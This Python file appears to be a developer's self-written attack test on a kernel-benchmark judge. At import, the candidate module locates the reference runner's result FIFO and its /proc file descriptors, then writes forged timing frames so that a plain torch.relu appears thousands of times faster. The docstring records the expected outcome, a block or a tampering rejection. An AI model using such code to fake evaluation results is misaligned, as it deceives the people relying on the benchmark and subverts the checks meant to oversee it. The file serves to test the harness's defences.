"""Hack: answers written into the reference runner's channel (my own attack on the judge's trusted
runner, 2026-11-25: the first item still open in docs/VERIFICATION.md's held-out list).

Without bubblewrap a candidate runs as the user, beside the reference's runner. At import it looks for
that runner by name (the channel's FIFO `res` in a sibling scratch directory that holds input files)
and through /proc (a runner that has mapped input files, and its inherited descriptors, `--fds=R,W`
on its command line), and writes 64 answers claiming 50 ms a call into whatever it can open. Read
as the reference's times, they make torch.relu thousands of times faster than eager.
Expected: where nothing can be opened (bubblewrap; no FIFO names any more; for a user other than root,
a runner that is not dumpable) an honest speed; where an answer was written (root, through /proc)
rejected: tampering, since it does not echo the call's nonce.
"""
import json
import os
import stat
import struct
from pathlib import Path

import torch
import torch.nn as nn


def _frame() -> bytes:
    data = json.dumps({"ok": True, "ms": 50.0, "wall_ms": 50.0, "host_ms": 0.01, "covered": True}).encode()
    return struct.pack(">I", len(data)) + data


def _targets() -> list[str]:
    me, found = Path.cwd().resolve(), []
    for d in me.parent.glob("kevolve-*"):
        try:
            if d.resolve() != me and stat.S_ISFIFO(os.stat(d / "res").st_mode) and any(d.glob("shm-*")):
                found.append(str(d / "res"))
        except OSError:
            pass
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            argv = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
            if b"kevolve.sandbox.runner.serve" not in argv or "/shm-" not in Path(f"/proc/{pid}/maps").read_text():
                continue
        except OSError:
            continue
        for a in argv:
            if a.startswith(b"--fds="):
                found.append(f"/proc/{pid}/fd/{a.split(b',')[1].decode()}")
    return found


for path in _targets():
    try:
        fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
        for _ in range(64):
            os.write(fd, _frame())
        os.close(fd)
    except OSError:
        pass


class ModelNew(nn.Module):
    def forward(self, x):
        return torch.relu(x)
